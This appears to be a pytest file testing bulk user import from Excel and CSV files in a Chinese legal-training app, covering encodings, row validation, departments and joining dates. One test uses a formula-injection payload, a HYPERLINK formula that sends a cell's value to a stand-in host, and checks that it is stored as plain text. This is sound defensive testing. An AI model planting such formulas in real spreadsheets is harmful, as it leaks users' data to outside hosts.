"""Bulk user import on real XLSX and CSV files: all or nothing, every bad row named."""

from __future__ import annotations

import io
from datetime import date, datetime, timedelta

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from lawlearn.accounts import importing
from lawlearn.accounts.models import User
from lawlearn.database import utcnow
from lawlearn.errors import ValidationFailed
from lawlearn.extensions import db
from lawlearn.localtime import day_start, local_day

HEADER = ["用户名", "姓名", "部门", "角色", "手机号", "初始密码"]


def xlsx_bytes(rows, header=HEADER) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_bytes(rows, encoding: str, header=HEADER) -> bytes:
    lines = [",".join(header)] + [",".join(str(c) for c in row) for row in rows]
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


@pytest.fixture
def office(ctx, make_department):
    unit = make_department("区政府办公室")
    make_department("法制科", unit)
    other = make_department("区司法局")
    make_department("办公室", unit)
    make_department("办公室", other)
    return unit


def user_count() -> int:
    return db.session.scalar(select(func.count(User.id)))


def test_xlsx_import_creates_users(office):
    data = xlsx_bytes([
        ["zhangsan", "张三", "法制科", "职工", 13800000000, "initial-pass"],
        ["lisi", "李四", "区政府办公室/办公室", "科室负责人、职工", None, None],
        [" WangWu ", "王五", "", "管理员", "", ""],
        [None, None, None, None, None, None],  # trailing empty row
    ])
    parsed = importing.parse_user_import(data, default_password="default-pass")
    assert parsed.ok, parsed.problems
    created = importing.apply_user_import(None, parsed,
                                          importing.hash_default_password("default-pass"))
    db.session.commit()
    by_name = {u.username: u for u in created}
    assert set(by_name) == {"zhangsan", "lisi", "wangwu"}
    assert by_name["zhangsan"].phone == "13800000000"
    assert by_name["zhangsan"].check_password("initial-pass")
    assert by_name["lisi"].roles == {"dept_lead", "staff"}
    assert by_name["zhangsan"].roles == {"staff"}
    assert by_name["lisi"].department.full_name == "区政府办公室/办公室"
    assert by_name["wangwu"].roles == {"admin", "staff"} and by_name["wangwu"].department is None
    assert all(u.must_change_password for u in created)
    assert by_name["lisi"].check_password("default-pass")
    # The log names who was given more than 干部职工, and finds an import by a username.
    from lawlearn.accounts.audit import audit_query

    entry = db.session.scalars(audit_query(action="user.import")).one()
    assert entry.summary == "批量导入用户 3 人，其中授予角色：lisi（科室负责人）；wangwu（管理员）"
    assert db.session.scalars(audit_query(q="zhangsan")).all() == [entry]
    assert db.session.scalars(audit_query(q="zhang_an")).all() == []  # _ is no wildcard


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk"])
def test_csv_in_every_encoding_excel_uses(office, encoding):
    data = csv_bytes([["zhaoliu", "赵六", "法制科", "职工", "", "initial-pass"]], encoding)
    parsed = importing.parse_user_import(data)
    assert parsed.ok, parsed.problems
    assert parsed.users[0].name == "赵六" and parsed.users[0].department.name == "法制科"


def test_every_bad_row_is_named_and_nothing_written(office):
    data = xlsx_bytes([
        ["good1", "好人", "法制科", "", "", "initial-pass"],
        ["dup", "甲", "法制科", "", "", "initial-pass"],
        ["dup", "乙", "法制科", "", "", "initial-pass"],
        ["nodept", "丙", "不存在的科", "", "", "initial-pass"],
        ["ambig", "丁", "办公室", "", "", "initial-pass"],
        ["", "无名", "", "", "", "initial-pass"],
        ["norole", "戊", "", "老板", "", "initial-pass"],
        ["weak", "己", "", "", "", "123"],
        ["nopass", "庚", "", "", "", ""],
        ["nameless", "", "", "", "", "initial-pass"],
        ["x", "短名", "", "", "", "initial-pass"],
        ["abc12", "辛", "", "", "", "abc12"],  # too short and the username
    ])
    before = user_count()
    parsed = importing.parse_user_import(data)
    rows = {p.row: p.message for p in parsed.problems}
    assert set(rows) == {0, 4, 5, 6, 7, 8, 9, 11, 12, 13}
    assert "第 3 行重复" in rows[4]
    assert "不存在的科" in rows[5]
    assert "有 2 个同名部门，请写作“区司法局/办公室”、“区政府办公室/办公室”之一" in rows[6]
    assert "不存在" not in rows[6]  # it exists twice: ambiguous, not missing
    assert "用户名为空" in rows[7]
    assert "老板" in rows[8]
    assert "至少需要 8 个字符" in rows[9]
    # Once for the file, naming the rows: only the good rows are checked for it (10).
    assert rows[0].startswith("1 行未填写初始密码（第 10 行）：请填写“默认初始密码”")
    assert "姓名为空" in rows[11]
    assert "用户名“x”不符合要求（须为 2–64 位" in rows[12]  # too short, not a bad letter
    assert "密码至少需要 8 个字符；密码不能与用户名相同" in rows[13]  # no "。；"
    with pytest.raises(ValidationFailed):
        importing.apply_user_import(None, parsed, None)
    assert user_count() == before


def test_a_chinese_name_padded_for_alignment_is_one_word(office):
    parsed = importing.parse_user_import(xlsx_bytes([
        ["sunli", "孙\u3000丽", "", "", "", "initial-pass"],
        ["wangwu", " 王  五 ", "", "", "", "initial-pass"],
        ["john", "John Smith", "", "", "", "initial-pass"]]))
    assert [user.name for user in parsed.users] == ["孙丽", "王五", "John Smith"]


def test_existing_username_is_a_bad_row(office, make_user):
    make_user("taken")
    parsed = importing.parse_user_import(
        csv_bytes([["taken", "某", "", "", "", "initial-pass"]], "utf-8"))
    assert [(p.row, "已存在" in p.message) for p in parsed.problems] == [(2, True)]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "空"),
        ("用户名,姓名\r\n".encode(), "没有数据行"),
        ("姓名,部门\r\n张三,法制科\r\n".encode(), "缺少必需的列：用户名"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64), "不是表格，而是 PNG 文件"),
        # A PDF renamed .xlsx: no NUL near its start, and it was "无法识别文件编码".
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" * 40,
         "不是表格，而是 PDF 文件"),
        # Text whose first letters happen to be a signature (BMP's "BM") is still text.
        (b"BM,ID3\r\n1,2\r\n", "缺少必需的列：用户名"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), ".xlsx"),
        (b"PK\x03\x04" + bytes(100), "不是有效的 Excel"),
    ],
    ids=["empty", "header-only", "wrong-columns", "png", "pdf", "bm-text", "legacy-xls",
         "broken-zip"],
)
def test_unreadable_files_are_refused(office, data, message):
    before = user_count()
    with pytest.raises(ValidationFailed, match=message):
        importing.parse_user_import(data, "default-pass")
    assert user_count() == before


def test_wrong_columns_in_xlsx(office):
    data = xlsx_bytes([["x", "y"]], header=["账户", "名字"])
    with pytest.raises(ValidationFailed, match="用户名、姓名"):
        importing.parse_user_import(data)


def test_template_is_a_workbook_the_importer_accepts(office):
    workbook = load_workbook(io.BytesIO(importing.template_workbook()))
    sheet = workbook.worksheets[0]
    assert [c.value for c in sheet[1]] == [*HEADER, "加入日期"]
    assert sheet.max_row == 1  # no sample row that would be imported by mistake
    sheet.append(["zhangsan", "张三", "法制科", "干部职工、科室负责人", "", "",
                  datetime(2024, 9, 1)])  # a date cell, as a spreadsheet program saves it
    buffer = io.BytesIO()
    workbook.save(buffer)
    parsed = importing.parse_user_import(buffer.getvalue(), "default-pass")
    assert parsed.ok, parsed.problems
    assert parsed.users[0].roles == {"staff", "dept_lead"}
    assert parsed.users[0].joined_on == date(2024, 9, 1)
    notes = [row[0] for row in workbook.worksheets[1].iter_rows(values_only=True)]
    assert "区政府办公室/法制科" in notes  # the existing departments are listed


def test_template_lists_a_department_named_like_a_formula_as_text(ctx, make_department):
    name = '=HYPERLINK("evil.example?x="&A1,"法制科")'  # no "/": names refuse it
    make_department(name)
    notes = load_workbook(io.BytesIO(importing.template_workbook())).worksheets[1]
    cells = [cell for (cell,) in notes.iter_rows(max_col=1) if cell.value == name]
    assert len(cells) == 1 and cells[0].data_type == "s"  # a string, not a formula ("f")


def test_phone_and_name_length_are_checked_at_preview(office):
    data = xlsx_bytes([["longname", "长" * 65, "", "", "", "initial-pass"],
                       ["badphone", "某", "", "", "138 0000 转 1234", "initial-pass"]])
    rows = {p.row: p.message for p in importing.parse_user_import(data).problems}
    assert "超过 64 个字" in rows[2] and "手机号" in rows[3]


def test_xlsx_with_a_wrong_dimension_is_read_whole(office):
    import zipfile

    source = xlsx_bytes([["dim", "维度", "法制科", "", "", "initial-pass"]])
    patched = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as original, \
            zipfile.ZipFile(patched, "w") as copy:
        for item in original.infolist():
            content = original.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                import re

                content = re.sub(rb'<dimension ref="[^"]+"/>', b'<dimension ref="A1"/>', content)
                assert b'<dimension ref="A1"/>' in content
            copy.writestr(item, content)
    parsed = importing.parse_user_import(patched.getvalue())
    assert parsed.ok and parsed.users[0].name == "维度"


def test_joining_days_are_read_as_people_type_them(office):
    """An office importing its staff after they came gives each one's 加入日期: a date cell,
    or text in the usual forms; a blank cell is the day of the import."""
    header = [*HEADER, "入职日期"]  # the column's other name
    data = xlsx_bytes([
        ["zhangsan", "张三", "法制科", "", "", "", datetime(2024, 9, 1)],
        ["lisi", "李四", "法制科", "", "", "", "2025/3/1"],
        ["wangwu", "王五", "法制科", "", "", "", "2025年 3月 2日"],
        ["zhaoliu", "赵六", "法制科", "", "", "", "2025.3.3"],
        ["qianba", "钱八", "法制科", "", "", "", datetime(2025, 3, 4, 9, 30)],  # with a time
        ["sunqi", "孙七", "法制科", "", "", "", None],
    ], header=header)
    before = utcnow()
    parsed = importing.parse_user_import(data, default_password="default-pass")
    assert parsed.ok, parsed.problems
    created = importing.apply_user_import(None, parsed,
                                          importing.hash_default_password("default-pass"))
    db.session.commit()
    joined = {user.username: user.joined_at for user in created}
    assert joined["zhangsan"] == day_start(date(2024, 9, 1))
    assert joined["lisi"] == day_start(date(2025, 3, 1))
    assert joined["wangwu"] == day_start(date(2025, 3, 2))
    assert joined["zhaoliu"] == day_start(date(2025, 3, 3))
    assert joined["qianba"] == day_start(date(2025, 3, 4))
    assert before <= joined["sunqi"] <= utcnow()
    # The account itself was made now, whatever the joining day.
    assert all(before <= user.created_at <= utcnow() for user in created)


def test_a_bad_joining_day_is_named_by_row_and_nothing_is_imported(office):
    tomorrow = local_day(utcnow()) + timedelta(days=1)
    data = csv_bytes([
        ["zhangsan", "张三", "法制科", "", "", "", "2024-09-01"],
        ["lisi", "李四", "法制科", "", "", "", "2025-13-01"],
        ["wangwu", "王五", "法制科", "", "", "", "去年九月"],
        ["zhaoliu", "赵六", "法制科", "", "", "", tomorrow.isoformat()],
        ["sunqi", "孙七", "法制科", "", "", "", "1850-01-01"],
    ], "utf-8", header=[*HEADER, "加入日期"])
    parsed = importing.parse_user_import(data, default_password="default-pass")
    problems = {problem.row: problem.message for problem in parsed.problems}
    assert set(problems) == {3, 4, 5, 6}
    assert "加入日期“2025-13-01”格式不对" in problems[3]
    assert "加入日期“去年九月”格式不对" in problems[4]
    assert f"加入日期不能晚于今天（{tomorrow.isoformat()}）" in problems[5]
    assert "加入日期不在有效范围内（1850-01-01）" in problems[6]
    count = user_count()
    with pytest.raises(ValidationFailed):
        importing.apply_user_import(None, parsed, importing.hash_default_password("default-pass"))
    assert user_count() == count


def test_a_lead_without_a_department_is_named_by_row(office):
    data = csv_bytes([["zhangsan", "张三", "", "科室负责人", "", ""],
                      ["lisi", "李四", "法制科", "科室负责人", "", ""],
                      ["wangwu", "王五", "", "", "", ""]], "utf-8")
    parsed = importing.parse_user_import(data, default_password="default-pass")
    assert [(p.row, p.message) for p in parsed.problems] == [(2, "科室负责人须填写部门")]
    count = user_count()
    with pytest.raises(ValidationFailed):
        importing.apply_user_import(None, parsed, importing.hash_default_password("default-pass"))
    assert user_count() == count


def test_a_sheet_without_passwords_and_no_default_is_one_problem(office):
    data = xlsx_bytes([[f"user{n:02d}", f"职工{n}", "法制科", "", "", ""] for n in range(12)])
    parsed = importing.parse_user_import(data)
    assert [(p.row, p.message) for p in parsed.problems] == [
        (0, "12 行未填写初始密码（第 2、3、4、5、6、7、8、9、10、11 等行）：请填写“默认初始密码”，"
            "或在表格中为每人填写初始密码")]
    assert importing.parse_user_import(data, "default-pass").ok


def test_a_title_row_above_the_header_is_passed_over(office):
    """"2027年新进人员名单" above the column names was "缺少必需的列：用户名、姓名"."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["2027年新进人员名单"])
    sheet.append([])
    sheet.append(HEADER)
    sheet.append(["titled", "标题下", "法制科", "职工", "", "initial-pass"])
    sheet.append(["", "无用户名", "", "", "", "initial-pass"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    parsed = importing.parse_user_import(buffer.getvalue())
    assert [user.username for user in parsed.users] == ["titled"]
    assert [problem.row for problem in parsed.problems] == [5]  # the row Excel shows
    csv_data = ("2027年新进人员名单\r\n" + ",".join(HEADER) + "\r\n"
                "csvtitled,标题下,法制科,职工,,initial-pass\r\n").encode("gbk")
    assert [u.username for u in importing.parse_user_import(csv_data).users] == ["csvtitled"]


def test_the_data_sheet_need_not_be_the_first(office):
    """The template's sheet 用户 with a sheet of notes put before it."""
    workbook = Workbook()
    notes = workbook.active
    notes.title = "说明"
    notes.append(["请按模板填写，部门须与系统中的名称一致。"])
    users = workbook.create_sheet("用户")
    users.append(HEADER)
    users.append(["second", "第二张表", "法制科", "职工", "", "initial-pass"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    parsed = importing.parse_user_import(buffer.getvalue())
    assert parsed.ok and [user.username for user in parsed.users] == ["second"]
    # The first sheet with a header, one column misnamed, is the data: said, not passed
    # over for a later sheet.
    notes.delete_rows(1)
    notes.append(["工号", "姓名", "部门"])
    notes.append(["wrongcol", "错列", "法制科"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    with pytest.raises(ValidationFailed, match="缺少必需的列：用户名"):
        importing.parse_user_import(buffer.getvalue())


def test_excels_unicode_text_is_read(office):
    """Excel's 另存为 "Unicode 文本": UTF-16 with a byte order mark, tab-separated (it was
    "文件不是表格")."""
    lines = ["\t".join(HEADER), "\t".join(["utf16", "统一码", "法制科", "职工", "",
                                            "initial-pass"]),
             # A comma in a cell ("职工,科室负责人") does not make it a comma-separated file.
             "\t".join(["comma", "逗号", "法制科", "职工,科室负责人", "", "initial-pass"])]
    data = ("\r\n".join(lines) + "\r\n").encode("utf-16")
    parsed = importing.parse_user_import(data)
    assert parsed.ok, parsed.problems
    assert parsed.users[0].name == "统一码" and parsed.users[0].department.name == "法制科"
    assert parsed.users[1].roles == {"staff", "dept_lead"}
